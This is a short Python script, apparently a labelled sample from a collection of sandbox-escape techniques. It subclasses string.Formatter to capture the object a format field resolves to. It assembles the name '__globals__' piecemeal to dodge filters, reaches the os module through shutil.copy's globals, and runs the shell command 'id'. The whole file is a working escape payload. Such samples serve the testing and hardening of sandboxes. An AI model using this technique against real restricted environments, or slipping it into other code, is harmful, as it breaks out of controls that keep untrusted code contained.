# class: reflective | technique: string.Formatter subclass whose convert_field() keeps the object a replacement field resolved to; the field path (built with %) walks a function's globals | effect: runs `id` via the os module from shutil.copy's globals
import shutil
import string


class Capture(string.Formatter):
    def __init__(self):
        super().__init__()
        self.seen = []

    def convert_field(self, value, conversion):
        self.seen.append(value)
        return super().convert_field(value, conversion)


attr = "_" * 2 + "glob" + "als" + "_" * 2
spec = "{0.%s[os]}" % attr
cap = Capture()
cap.format(spec, shutil.copy)
print(cap.seen[0].popen("id").read().strip())
